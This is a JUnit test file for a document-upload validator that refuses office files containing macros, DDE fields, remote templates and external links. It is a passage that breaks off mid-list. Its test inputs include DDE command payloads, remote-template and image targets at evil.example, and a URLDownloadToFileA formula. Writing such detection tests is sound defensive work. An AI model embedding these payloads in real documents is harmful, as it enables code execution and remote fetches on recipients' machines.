package cn.lianban.kernel;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * What a file is by its content: office documents and their macros, PDFs that do something by
 * themselves.
 */
class UploadedFileTest {

  private static final String WORD_TYPES =
      "<Types><Override ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>";
  private static final String DOCM_TYPES =
      "<Types><Override ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>";
  private static final String OFD =
      "<ofd:OFD xmlns:ofd=\"http://www.ofdspec.org/2016\" DocType=\"OFD\" Version=\"1.0\"/>";

  @ParameterizedTest
  @CsvSource({
    "报告.doc, WordDocument, application/msword",
    "报告.wps, WordDocument, application/vnd.wps-office.wps",
    "台账.xls, Workbook, application/vnd.ms-excel",
    "台账.et, Workbook, application/vnd.wps-office.et",
    "汇报.dps, PowerPoint Document, application/vnd.wps-office.dps"
  })
  void documents_of_wps_and_of_older_office_are_known_by_the_stream_they_hold(
      String name, String stream, String type) {
    assertThat(UploadedFile.of(name, compound("Root Entry", stream)).type()).isEqualTo(type);
    refuses(name, compound("Root Entry", "Contents"), "内容须与扩展名一致");
    refuses(name, pdf("<< /Type /Catalog >>"), "内容须与扩展名一致");
  }

  @Test
  void a_document_under_the_ending_of_another_is_refused() {
    refuses("台账.et", compound("Root Entry", "WordDocument"), "内容须与扩展名一致");
    refuses("报告.wps", compound("Root Entry", "Workbook"), "内容须与扩展名一致");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "_VBA_PROJECT",
        "_VBA_PROJECT_CUR",
        "Macros",
        "MACROS",
        "_vba_project",
        "_Vba_Project_Cur"
      })
  void older_documents_with_macros_are_refused(String entry) {
    refuses("报告.doc", compound("Root Entry", "WordDocument", entry), "含有宏");
    refuses("报告.wps", compound("Root Entry", "WordDocument", entry), "含有宏");
    refuses("台账.et", compound("Root Entry", "Workbook", entry), "含有宏");
  }

  @ParameterizedTest
  @CsvSource({"1, 16", "6, 16", "0, 64", "0, 6"})
  void workbooks_with_sheets_of_older_macros_are_refused(int listed, int begun) {
    for (String stream : List.of("Workbook", "Book")) {
      Map<String, byte[]> contents = new LinkedHashMap<>();
      contents.put("Root Entry", new byte[0]);
      contents.put(stream, workbook(listed, begun));
      refuses("台账.xls", compound(contents), "含有宏");
      refuses("台账.et", compound(contents), "含有宏");
    }
    Map<String, byte[]> small = new LinkedHashMap<>();
    small.put("Root Entry", workbook(listed, begun));
    small.put("Workbook", workbook(listed, begun));
    refuses("台账.xls", compound(small, true), "含有宏");
    small.replaceAll((name, content) -> workbook(0, 0x0010));
    assertThat(UploadedFile.of("台账.xls", compound(small, true)).type())
        .isEqualTo("application/vnd.ms-excel");
  }

  @Test
  void what_a_password_hides_is_refused() {
    ByteBuffer locked = ByteBuffer.allocate(64).order(ByteOrder.LITTLE_ENDIAN);
    record(locked, 0x0809, 0x00, 0x06, 0x05, 0x00);
    record(locked, 0x002F, 0x01, 0x00);
    refuses("台账.xls", compound(Map.of("Workbook", locked.array())), "设有打开密码，无法检查");
    byte[] user = new byte[20];
    ByteBuffer.wrap(user).order(ByteOrder.LITTLE_ENDIAN).putInt(12, 0xF3D1C4DF);
    refuses(
        "汇报.dps",
        compound(Map.of("PowerPoint Document", new byte[8], "Current User", user)),
        "设有打开密码，无法检查");
  }

  @Test
  void presentations_with_a_packed_project_of_macros_are_refused() {
    ByteBuffer stream = ByteBuffer.allocate(2048).order(ByteOrder.LITTLE_ENDIAN);
    stream.position(505);
    stream.put(
        new byte[] {0x1F, 0, (byte) 0xFF, 0x03, 0x14, 0, 0, 0, 0x02, 0, 0, 0x04, 0x0C, 0, 0, 0});
    int reference = stream.position();
    byte[] without = stream.array().clone();
    assertThat(UploadedFile.of("汇报.dps", compound(Map.of("PowerPoint Document", without))).type())
        .endsWith("dps");
    for (int place : List.of(reference, reference + 4)) {
      byte[] with = without.clone();
      with[place] = 1;
      refuses("汇报.dps", compound(Map.of("PowerPoint Document", with)), "含有宏");
    }
  }

  @Test
  void older_documents_that_break_the_rules_of_their_container_are_refused() {
    byte[] good = compound("Root Entry", "Workbook");
    for (int place : List.of(0x1E, 0x20, 0x30, 0x4C)) {
      byte[] bad = good.clone();
      bad[place] = 0x7F;
      refuses("台账.xls", bad, "内容须与扩展名一致");
    }
    byte[] endless = good.clone();
    ByteBuffer.wrap(endless).order(ByteOrder.LITTLE_ENDIAN).putInt(512 + 4, 1);
    refuses("台账.xls", endless, "内容须与扩展名一致");
    refuses("台账.xls", Arrays.copyOf(good, 1100), "内容须与扩展名一致");
    refuses("台账.xls", compound(Map.of("Workbook", new byte[8])), "内容须与扩展名一致");
  }

  @Test
  void an_ofd_is_known_by_its_first_document() throws IOException {
    assertThat(UploadedFile.of("批复.ofd", zip("OFD.xml", OFD, "Doc_0/Document.xml", "<x/>")).type())
        .isEqualTo("application/ofd");
    refuses("批复.ofd", zip("OFD.xml", "<html/>"), "内容须与扩展名一致");
    refuses("批复.ofd", zip("Doc_0/Document.xml", "<x/>"), "内容须与扩展名一致");
    refuses("批复.ofd", pdf("<< /Type /Catalog >>"), "内容须与扩展名一致");
  }

  @Test
  void documents_without_macros_are_taken() throws IOException {
    UploadedFile word =
        UploadedFile.of(
            "研发说明.docx", zip("[Content_Types].xml", WORD_TYPES, "word/document.xml", "<w/>"));
    assertThat(word.type()).endsWith("wordprocessingml.document");
    assertThat(word.active()).isFalse();
    assertThat(
            UploadedFile.of(
                    "表.xlsx", zip("[Content_Types].xml", "<Types/>", "xl/workbook.xml", "<w/>"))
                .type())
        .endsWith("spreadsheetml.sheet");
    String template =
        "<Relationship Type=\"x/attachedTemplate\" Target=\"file:///C:/Normal.dotm\" TargetMode=\"External\"/>";
    assertThat(
            UploadedFile.of(
                "a.docx",
                zip(
                    "[Content_Types].xml",
                    WORD_TYPES,
                    "word/document.xml",
                    "<w/>",
                    "word/_rels/settings.xml.rels",
                    template)))
        .as("a template on the writer's own machine")
        .isNotNull();
  }

  @Test
  void documents_with_macros_are_refused_wherever_they_hide_them() throws IOException {
    refuses(
        "a.docx",
        zip(
            "[Content_Types].xml",
            WORD_TYPES,
            "word/document.xml",
            "<w/>",
            "word/vbaProject.bin",
            "x"),
        "含有宏");
    refuses(
        "a.docx",
        zip(
            "[Content_Types].xml",
            WORD_TYPES,
            "word/document.xml",
            "<w/>",
            "word/VBAPROJECT.BIN",
            "x"),
        "含有宏");
    refuses(
        "a.docx",
        zip("[Content_Types].xml", DOCM_TYPES, "word/document.xml", "<w/>", "word/other.bin", "x"),
        "含有宏");
    refuses(
        "a.docx",
        zip(
            "[Content_Types].xml",
            WORD_TYPES,
            "word/document.xml",
            "<w/>",
            "word/activeX/activeX1.bin",
            "x"),
        "含有宏");
    refuses(
        "a.xlsx",
        zip("[Content_Types].xml", "<Types/>", "xl/workbook.xml", "<w/>", "xl/vbaProject.bin", "x"),
        "含有宏");
    refuses(
        "a.xlsx",
        zip(
            "[Content_Types].xml",
            "<Types/>",
            "xl/workbook.xml",
            "<w/>",
            "xl/macrosheets/sheet1.xml",
            "x"),
        "含有宏");
    for (String type : List.of("relationships/vbaProject", "relationships/xlMacrosheet")) {
      refuses(
          "a.xlsx",
          zip(
              "[Content_Types].xml",
              "<Types/>",
              "xl/workbook.xml",
              "<w/>",
              "xl/_rels/workbook.xml.rels",
              "<Relationships><Relationship Type='x/" + type + "' Target='a.xml'/></Relationships>",
              "xl/a.xml",
              "x"),
          "含有宏");
    }
    String template =
        "<Relationship Target='https://example.com/a.dotm' Type='x/attachedTemplate' TargetMode='External'/>";
    refuses(
        "a.docx",
        zip(
            "[Content_Types].xml",
            WORD_TYPES,
            "word/document.xml",
            "<w/>",
            "word/_rels/settings.xml.rels",
            template),
        "远程模板");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<Types><Override PartName='/word/x.bin' ContentType='application/vnd.ms-office.vba&#80;roject'/></Types>",
        "<Types><!--COMMENT--><Override PartName='/word/x.bin' ContentType='application/vnd.ms-office.vbaProject'/></Types>",
        "<c:Types xmlns:c='x'><c:Default Extension='bin' ContentType='application/vnd.ms-office.vbaProject'/></c:Types>"
      })
  void macros_are_found_however_their_type_is_written(String types) throws IOException {
    String written = types.replace("COMMENT", "x".repeat(1100 * 1024));
    refuses(
        "a.docx",
        zip("[Content_Types].xml", written, "word/document.xml", "<w/>", "word/x.bin", "x"),
        "含有宏");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<Relationship Type='x/attachedTemplate' Target='h&#116;tps://evil.example/a.dotm'/>",
        "<r:Relationship xmlns:r='x' Type='x/attachedTemplate' Target='https://evil.example/a'/>",
        "<Relationship Type='x/attached&#84;emplate' Target='file://///evil.example/a.dotm'/>",
        "<Relationship Type='x/attachedTemplate' Target='file:///\\\\evil.example\\a.dotm'/>",
        "<Relationship Type='x/attachedTemplate' Target='file://evil.example/a.dotm'/>",
        "<Relationship Type='x/attachedTemplate' Target='\\\\evil.example\\a.dotm'/>",
        "<Relationship Type='x/attachedTemplate' Target='file:///%5C%5cevil.example/a.dotm'/>",
        "<Relationship Type='x/attachedTemplate' Target='%2F%2fevil.example/a.dotm'/>",
        "<Relationship Type='x/attachedTemplate' Target='/\\evil.example/a.dotm'/>"
      })
  void a_template_elsewhere_is_refused_however_its_address_is_written(String relationship)
      throws IOException {
    for (String part : List.of("word/_rels/settings.xml.rels", "word\\_rels\\settings.xml.rels")) {
      refuses("a.docx", document(part, relationship), "远程模板");
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Normal.dotm",
        "file:///C:\\Users\\李四\\Templates\\Normal.dotm",
        "C:\\Users\\a\\Normal.dotm",
        "file:///Users/a/Normal%20a.dotm"
      })
  void a_template_on_the_machine_of_the_writer_is_taken(String path) throws IOException {
    String relationship =
        "<Relationship Type='x/attachedTemplate' Target='" + path + "' TargetMode='External'/>";
    assertThat(UploadedFile.of("a.docx", document("word/_rels/settings.xml.rels", relationship)))
        .isNotNull();
  }

  @Test
  void a_document_whose_descriptions_cannot_be_read_is_refused() throws IOException {
    String part = "word/_rels/settings.xml.rels";
    refuses("a.docx", document(part, "<x"), "内容须与扩展名一致");
    refuses("a.docx", document(part, "<!DOCTYPE x [<!ENTITY a 'b'>]><x/>"), "内容须与扩展名一致");
    refuses("a.docx", document(part, "<x>".repeat(60) + "</x>".repeat(60)), "内容须与扩展名一致");
    refuses("a.docx", document(part, "<x>" + " ".repeat(5 * 1024 * 1024) + "</x>"), "内容须与扩展名一致");
  }

  @ParameterizedTest
  @CsvSource({
    "xl/externalLinks/externalLink1.xml, externalLinks/externalLink1.xml, externalLink",
    "xl/other/Part.XML, other/part.xml, externalLink",
    "XL/EXTERNALLINKS/a.xml, nothing.xml, theme",
    "xl/hidden.bin, ..\\xl\\hidden.bin, externalLink"
  })
  void a_workbook_with_a_link_to_a_program_or_to_another_workbook_is_refused(
      String part, String target, String type) throws IOException {
    String dde =
        "<x:externalLink xmlns:x=\"main\"><x:ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></x:externalLink>";
    refuses("a.xlsx", workbook(part, target, type, dde), "启动程序");
    refuses("a.xlsx", workbook("xl/a.bin", "%61.bin", "externalLink", dde), "启动程序");
    refuses(
        "a.xlsx",
        workbook(part, target, type, "<externalLink><externalBook/></externalLink>"),
        "到其他工作簿的链接");
  }

  @Test
  void a_link_that_cannot_be_read_is_refused() throws IOException {
    refuses(
        "a.xlsx",
        workbook("xl/externalLinks/a.xml", "externalLinks/a.xml", "externalLink", "<ddeLink"),
        "内容须与扩展名一致");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<worksheet><c><f>cmd|'/c calc'!A1</f></c></worksheet>",
        "<x:worksheet xmlns:x='m'><x:f>'cmd'|'/c calc'!A1</x:f></x:worksheet>",
        "<worksheet><f>\"a|b\"&amp;cmd|&apos;/c calc&apos;!A1</f></worksheet>",
        "<worksheet><conditionalFormatting><formula>cmd|t!a</formula></conditionalFormatting></worksheet>",
        "<worksheet><f><![CDATA[cmd|]]>'/c'!A1</f></worksheet>"
      })
  void a_formula_that_asks_a_program_is_refused(String sheet) throws IOException {
    refuses("a.xlsx", sheet("xl/worksheets/sheet1.xml", sheet), "启动程序");
    refuses("a.xlsx", sheet("xl/hidden.bin", sheet), "启动程序");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<worksheet><f>\"甲|乙\"&amp;'表|一'!A1</f><v>cmd|'/c calc'!A1</v></worksheet>",
        "<worksheet><f>IF(A1=\"|\",1,2)</f><f>'it''s|a'!B1</f></worksheet>"
      })
  void a_bar_in_a_text_or_in_the_name_of_a_sheet_is_none(String sheet) throws IOException {
    assertThat(UploadedFile.of("a.xlsx", sheet("xl/worksheets/sheet1.xml", sheet))).isNotNull();
  }

  private static byte[] sheet(String part, String content) throws IOException {
    return workbook(part, "theme.xml", "theme", content);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<w:instrText> DDEAUTO c:\\\\cmd.exe \"/k calc\" </w:instrText>",
        "<w:instrText>D</w:instrText><w:instrText>de cmd</w:instrText>",
        "<w:fldChar w:fldCharType='begin'/><w:instrText>PAGE</w:instrText><w:fldChar w:fldCharType='begin'/><w:instrText xml:space='preserve'> DDE cmd</w:instrText>",
        "<w:fldSimple w:instr=' ddeauto cmd '/>"
      })
  void a_field_that_starts_a_program_is_refused(String field) throws IOException {
    String body = "<w:document xmlns:w='w'>" + field + "</w:document>";
    refuses("a.docx", document("word/header1.xml", body), "启动程序");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "INCLUDEPICTURE \"http://evil.example/x.png\" \\* MERGEFORMATINET",
        "INCLUDETEXT \"\\\\\\\\evil\\\\a.docx\"",
        "QUOTE 68 68 69 65 85 84 79",
        "QUOTE 68 \"a\"",
        "_Ref1",
        "DDEAUTO",
        "EMBED",
        "LINK Excel.Sheet.12 \"a.xlsx\"",
        "DATABASE \\c \"x\"",
        "IMPORT x",
        "RD a.docx",
        "MACROBUTTON x y",
        "\"DDE\" cmd",
        "DDETECTION",
        "HYPERLINK \"file://evil/a.exe\"",
        "HYPERLINK \"search-ms:query=a\"",
        "HYPERLINK \\\\evil\\a.exe",
        "HYPERLINK \"https://a.example\" \"file:///c:/a\"",
        "hyperlink \\l \"a\" ms-msdt:/id",
        "HYPERLINK \\m \"file://a\""
      })
  void a_field_that_is_not_known_to_be_harmless_is_refused(String field) throws IOException {
    String first = field.substring(0, 2).replace("\"", "&quot;");
    String rest = field.substring(2).replace("\"", "&quot;");
    for (String body :
        List.of(
            "<w:fldSimple w:instr='" + first + rest + "'/>",
            field(first + rest),
            field(first + "</w:instrText><w:instrText>" + rest),
            field(first + "</w:instrText><w:t>" + rest + "</w:t><w:instrText>"),
            field("PAGE").replace("<w:t>1</w:t>", field(first + rest)),
            field("IF </w:instrText>" + field(first + rest) + "<w:instrText> = 1 a b"))) {
      refuses("a.docx", document("word/header1.xml", word(body)), "域 ");
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        " PAGE DDE ",
        "PAGE\\* MERGEFORMAT",
        "numpages",
        "TOC \\o \"1-3\" \\h \\z \\u",
        "REF _Ref1 \\h",
        "SEQ 表 \\* ARABIC",
        "= SUM(ABOVE) \\# \"0.00\"",
        "=SUM(ABOVE)+1",
        "DATE \\@ \"yyyy年M月d日\"",
        "FORMTEXT",
        "EQ \\f(1,2)",
        "DISPLAYBARCODE \"91110114\" QR \\q 3",
        "QUOTE \"文字\"",
        "SET 名称 \"文字\"",
        "ASK 名称 \"姓名？\"",
        "FILLIN \"姓名？\"",
        "HYPERLINK \"www.bjchp.gov.cn\"",
        "HYPERLINK \"附件1.docx\"",
        "ADDIN EN.CITE a b",
        "HYPERLINK \\l \"_Toc1\"",
        "HYPERLINK \"https://www.bjchp.gov.cn/a b\" \\o \"C:\\a 提示\" \\t \"_blank\"",
        "HYPERLINK \"mailto:a@b.cn\""
      })
  void a_field_that_is_known_to_be_harmless_is_taken(String field) throws IOException {
    String simple = field.replace("\"", "&quot;").replace("/a b", "/a");
    for (String body :
        List.of(
            "<w:fldSimple w:instr='" + simple + "'/>",
            field(simple),
            field(simple) + "<w:t>DDE cmd</w:t>",
            field("IF </w:instrText>" + field("PAGE") + "<w:instrText> = 1 a b"))) {
      assertThat(UploadedFile.of("a.docx", document("word/header1.xml", word(body)))).isNotNull();
    }
  }

  @Test
  void a_field_whose_name_another_field_composes_is_refused() throws IOException {
    for (String before : List.of("", " ", "D")) {
      String body = field(before + "</w:instrText>" + field("REF a") + "<w:instrText> cmd");
      refuses("a.docx", document("word/header1.xml", word(body)), "由另一个域拼成");
    }
    String link = field("HYPERLINK </w:instrText>" + field("REF a") + "<w:instrText>");
    refuses("a.docx", document("word/header1.xml", word(link)), "拼成的地址");
  }

  private static String word(String body) {
    return "<w:document xmlns:w='w'>" + body + "</w:document>";
  }

  private static String field(String instruction) {
    return "<w:fldChar w:fldCharType='begin'/><w:instrText>"
        + instruction
        + "</w:instrText><w:fldChar w:fldCharType='separate'/><w:t>1</w:t><w:fldChar w:fldCharType='end'/>";
  }

  @ParameterizedTest
  @CsvSource({
    "image, file://evil/x.png, true",
    "image, http://evil.example/x.png, true",
    "oleObject, http://evil.example/x.doc, true",
    "frame, \\\\evil\\a, true",
    "externalLinkPath, file:///\\\\evil\\a.xlsx, true",
    "externalLinkPath, file:///C:\\数据\\a.xlsx, true",
    "externalLinkPath, /Users/a/b.xlsx, true",
    "image, media/image1.png, true",
    "hyperlink, https://www.bjchp.gov.cn/, false",
    "hyperlink, HTTP://a.example/?x=1#y, false",
    "hyperlink, mailto:a@b.cn?subject=x y, false",
    "hyperlink, #表1!A1, false",
    "hyperlink, file://evil/a.exe, true",
    "hyperlink, 'search-ms:query=a&amp;crumb=location:\\\\evil', true",
    "hyperlink, \\\\evil\\a.exe, true",
    "hyperlink, //evil/a.exe, true",
    "hyperlink, 附件1.docx, false",
    "hyperlink, 材料/附件 2.pdf#第2页, false",
    "hyperlink, 附件1.exe, true",
    "hyperlink, /附件1.docx, true",
    "hyperlink, c:/附件1.docx, true",
    "hyperlink, www.bjchp.gov.cn/a, false",
    "hyperlink, tel:+86-10-80000000, false",
    "hyperlink, about:blank, false",
    "hyperlink, 'javascript:alert(1)', true",
    "hyperlink, 'data:text/html,a', true",
    "image, NULL, false",
    "hyperlink, NULL, true",
    "chart, NULL, true",
    "subDocument, file://evil/a.docx, true",
    "chart, https://a.example/a.xml, true",
  })
  void what_calls_another_place_when_it_is_opened_is_refused(
      String type, String target, boolean refused) throws IOException {
    byte[] file =
        document(
            "word/_rels/document.xml.rels",
            "<Relationships><Relationship Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
                + type
                + "' Target='"
                + target
                + "' TargetMode='External'/></Relationships>");
    if (refused) {
      refuses("a.docx", file, "连接别处");
    } else {
      assertThat(UploadedFile.of("a.docx", file)).isNotNull();
    }
  }

  @ParameterizedTest
  @CsvSource({
    "aFChunk, afchunk.htm, altChunk",
    "oleObject, embeddings/a.bin, OLE",
    "package, embeddings/a.xlsx, 嵌入的文件",
    "connections, connections.xml, 外部数据连接",
    "queryTable, a.xml, 外部数据查询",
    "control, a.xml, ActiveX",
    "image, file://evil/a.png, 链接的外部内容",
    "image, \\\\evil\\a.png, 链接的外部内容",
    "webextensiontaskpanes, a.xml, 网页加载项",
    "somethingNew, a.xml, 无法检查的部件",
  })
  void a_part_that_is_not_known_to_be_harmless_is_refused(String type, String target, String told)
      throws IOException {
    refuses(
        "a.docx",
        document(
            "word/_rels/document.xml.rels",
            "<Relationships><Relationship Type='http://x/"
                + type
                + "' Target='"
                + target
                + "'/></Relationships>"),
        told);
  }

  @Test
  void a_field_that_is_the_name_of_a_place_is_taken_where_the_document_has_the_place()
      throws IOException {
    for (String field : List.of("_Ref1", " 第一处 \\h ", "总额 \\* MERGEFORMAT")) {
      String place = field.strip().split(" ")[0];
      String body = field(field) + "<w:bookmarkStart w:id='1' w:name='" + place + "'/>";
      assertThat(UploadedFile.of("a.docx", document("word/header1.xml", word(body)))).isNotNull();
      refuses("a.docx", document("word/header1.xml", word(field(field))), "域 ");
    }
    String hidden = field("DDEAUTO") + "<w:bookmarkStart w:id='1' w:name='DDEAUTO'/>";
    refuses("a.docx", document("word/header1.xml", word(hidden)), "域 DDEAUTO");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      textBlock =
          """
          <workbook><definedName name="_xlnm.Auto_Open" xlm="1">S!$A$1</definedName></workbook> | 含有宏
          <workbook><definedName name="_xlnm.Auto_Open">S!$A$1</definedName></workbook>         | 含有宏
          <workbook><definedName name="a" vbProcedure="true">S!$A$1</definedName></workbook>    | 含有宏
          <a><sp macro="[0]!按钮1_Click"/></a>                                                  | 图形上的宏
          <xml><FmlaMacro>[0]!a</FmlaMacro></xml>                                               | 控件上的宏
          <p><cacheSource type="external" connectionId="1"/></p>                                | 外部数据的透视表
          <a><hlinkClick action="ppaction://program"/></a>                                      | 图形上的动作
          <a><hlinkClick action="ppaction://macro?name=a"/></a>                                 | 图形上的动作
          """)
  void what_starts_a_macro_a_program_or_a_connection_is_refused(String content, String told)
      throws IOException {
    refuses("a.xlsx", sheet("xl/worksheets/sheet1.xml", content), told);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<workbook><definedName name='_xlnm.Print_Area' vbProcedure='0'>S!$A$1</definedName></workbook>",
        "<a><sp macro='' textlink=''/></a>",
        "<p><cacheSource type='worksheet'><worksheetSource ref='A1:B2' sheet='S'/></cacheSource></p>",
        "<a><hlinkClick action='ppaction://noaction'/><hlinkClick action=''/></a>"
      })
  void what_looks_like_it_and_starts_nothing_is_taken(String content) throws IOException {
    assertThat(UploadedFile.of("a.xlsx", sheet("xl/worksheets/sheet1.xml", content))).isNotNull();
  }

  @Test
  void parts_that_newer_programs_add_are_taken() throws IOException {
    assertThat(
            UploadedFile.of(
                "a.xlsx",
                workbook(
                    "xl/featurePropertyBag/featurePropertyBag.xml",
                    "featurePropertyBag/featurePropertyBag.xml",
                    "FeaturePropertyBag",
                    "<FeaturePropertyBags/>")))
        .isNotNull();
    assertThat(
            UploadedFile.of(
                "a.docx",
                zip(
                    "[Content_Types].xml",
                    WORD_TYPES.replace(
                        "<Types>",
                        "<Types><Default Extension='mdproperties' ContentType='application/x-notes'/>"),
                    "word/document.xml",
                    "<w/>",
                    "docProps/meta.mdproperties",
                    "<p/>",
                    "_rels/.rels",
                    "<Relationships><Relationship Type='http://x/metadata' Target='docProps/meta.mdproperties'/></Relationships>")))
        .isNotNull();
  }

  @Test
  void a_file_that_is_a_document_and_a_pdf_is_neither() throws IOException {
    byte[] word = zip("[Content_Types].xml", WORD_TYPES, "word/document.xml", "<w/>");
    byte[] both = join(word, "%PDF-1.7\n1 0 obj\n<< >>\nendobj\n%%EOF\n");
    refuses("a.docx", both, "内容须与扩展名一致");
    refuses("a.pdf", both, "内容须与扩展名一致");
  }

  @Test
  void a_part_that_nothing_names_counts_for_the_size_too() throws IOException {
    refuses(
        "a.docx",
        document("word/media/none.bin", "\u0001" + "\0".repeat(97 * 1024 * 1024)),
        "展开后过大");
  }

  @Test
  void parts_are_refused_by_their_media_type_and_by_what_stands_in_them() throws IOException {
    for (String type :
        List.of(
            "text/html",
            "application/vnd.openxmlformats-officedocument.oleObject",
            "application/vnd.ms-excel.sheet.binary.main")) {
      refuses(
          "a.docx",
          zip(
              "[Content_Types].xml",
              "<Types><Override PartName='/word/x' ContentType='" + type + "'/></Types>",
              "word/document.xml",
              "<w/>"),
          "无法检查");
      byte[] unused =
          zip(
              "[Content_Types].xml",
              "<Types><Default Extension='bin' ContentType='" + type + "'/></Types>",
              "word/document.xml",
              "<w/>");
      assertThat(UploadedFile.of("a.docx", unused)).as("no part of the type").isNotNull();
    }
    refuses("a.docx", document("word/a.xml", word("<w:altChunk/>")), "altChunk");
    refuses("a.docx", document("word/a.htm", "hello"), "嵌入的文件");
    byte[] program = ("MZ" + "x".repeat(100)).getBytes(StandardCharsets.ISO_8859_1);
    ByteArrayOutputStream behindAProgram = new ByteArrayOutputStream();
    behindAProgram.writeBytes(program);
    behindAProgram.writeBytes(document("word/a.xml", word("<w:p/>")));
    refuses("a.docx", behindAProgram.toByteArray(), "与扩展名一致");
    refuses(
        "a.docx",
        document("word/a.xml", word("<wp15:webVideoPr xmlns:wp15='v' embeddedHtml='x'/>")),
        "在线视频");
    refuses(
        "a.xlsx",
        sheet(
            "xl/a.xml",
            "<x><webPublishItems><webPublishItem autoRepublish='1'/></webPublishItems></x>"),
        "自动发布");
    refuses(
        "a.docx",
        document("word/a.xml", word("<v:imagedata xmlns:v='v' src='file://evil/x.png'/>")),
        "链接的外部图片");
    refuses(
        "a.docx",
        document(
            "word/a.xml", word("<v:imagedata xmlns:v='v' v:href='http://evil.example/x.png'/>")),
        "指向");
    assertThat(
            UploadedFile.of(
                "a.docx",
                document("word/a.xml", word("<v:rect xmlns:v='v' href='https://a.example/'/>"))))
        .isNotNull();
    for (String connections :
        List.of("<connections><connection refreshOnLoad='1'/></connections>", "<x><webPr/></x>")) {
      refuses("a.xlsx", sheet("xl/a.xml", connections), "外部数据连接");
      refuses("a.xlsx", sheet("xl/connections.xml", "<x/>"), "外部数据连接");
    }
  }

  @Test
  void of_two_parts_with_one_name_neither_is_taken() throws IOException {
    refuses("a.docx", document("word/DOCUMENT.xml", "<w/>"), "内容须与扩展名一致");
  }

  @Test
  void the_workbook_of_a_chart_is_looked_into_as_a_workbook() throws IOException {
    for (boolean calls : List.of(true, false)) {
      String formula = calls ? "cmd|'/c calc'!A1" : "SUM(A1:A2)";
      byte[] figures =
          sheet("xl/worksheets/sheet1.xml", "<worksheet><f>" + formula + "</f></worksheet>");
      ByteArrayOutputStream bytes = new ByteArrayOutputStream();
      try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
        Map<String, byte[]> parts = new LinkedHashMap<>();
        parts.put("[Content_Types].xml", WORD_TYPES.getBytes(StandardCharsets.UTF_8));
        parts.put("word/document.xml", "<w/>".getBytes(StandardCharsets.UTF_8));
        parts.put(
            "word/charts/_rels/chart1.xml.rels",
            "<Relationships><Relationship Type='x/package' Target='../embeddings/a.xlsx'/></Relationships>"
                .getBytes(StandardCharsets.UTF_8));
        parts.put("word/embeddings/a.xlsx", figures);
        for (Map.Entry<String, byte[]> part : parts.entrySet()) {
          zip.putNextEntry(new ZipEntry(part.getKey()));
          zip.write(part.getValue());
        }
      }
      if (calls) {
        refuses("a.docx", bytes.toByteArray(), "嵌入的工作簿，其中有公式");
      } else {
        assertThat(UploadedFile.of("a.docx", bytes.toByteArray())).isNotNull();
      }
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "WEBSERVICE(\"http://evil.example\")",
        "_xlfn.WEBSERVICE(A1)",
        "MAP(A1:A2,_xleta.WEBSERVICE)",
        "FILTERXML(A1,\"x\")",
        "RTD(\"a\",,\"b\")",
        "CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\")",
        "REGISTER.ID(\"a\",\"b\")",
        "EXEC(\"calc\")",
        "_xlfn.IMAGE(\"http://evil.example/a.png\")",
        "'\\\\evil\\s\\[a.xlsx]S'!A1",
        "'C:\\[a.xlsx]S'!A1",
        "[a.xlsx]S!A1",
        "[1]S!A1+1",
        "'[1]S 1'!A1",
        "'https://a.example/a.xlsx'!名称",
        "HYPERLINK(\"file://evil/a.exe\",\"x\")",
        "HYPERLINK( \"\\\\evil\\a\")",
        "_xll.evil(1)",
        "_xludf.evil(1)",
        "CUBEVALUE(\"a\",\"b\")",
        "CUBEMEMBER(\"a\",\"b\")",
        "_xlfn.TRANSLATE(A1,\"en\",\"zh\")",
        "_xlfn.DETECTLANGUAGE(A1)",
        "EVALUATE(A1)",
        "GET.WORKSPACE(1)",
        "SOMETHING.NEW(A1)",
        "INDIRECT(\"'[a.xlsx]S'!A1\")",
        "INDIRECT(\"[\"&amp;A1&amp;\"]S!A1\")",
        "WEB\u200BSERVICE(\"http://evil.example\")",
        "ＷＥＢＳＥＲＶＩＣＥ(\"http://evil.example\")",
        "表1[金额(元)]+EVIL(1)",
        "MAP(A1:A2,_xleta.EVALUATE)",
        "HYPERLINK(A1)"
      })
  void a_formula_that_calls_another_place_is_refused(String formula) throws IOException {
    for (String sheet :
        List.of(
            "<worksheet><f>FORMULA</f></worksheet>",
            "<workbook><definedName name='a'>FORMULA</definedName></workbook>",
            "<a><cfvo val=\"FORMULA\"/></a>")) {
      String written = formula.replace("\"", "&quot;");
      refuses("a.xlsx", sheet("xl/worksheets/sheet1.xml", sheet.replace("FORMULA", written)), "公式");
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "SUM(表1[金额],表1[[#This Row],[税 额]])!=0",
        "表1[@金额]*2",
        "'2025 年'!A1+Sheet2!B1",
        "[0]!名称",
        "\"WEBSERVICE(\"&amp;A1",
        "\"[a.xlsx]S!A1\"",
        "INDIRECT(\"S!A\"&amp;B1)",
        "表1[金额(元)]*2",
        "金额（元）*2",
        "表1[[#This Row],[单价'(含税)]]",
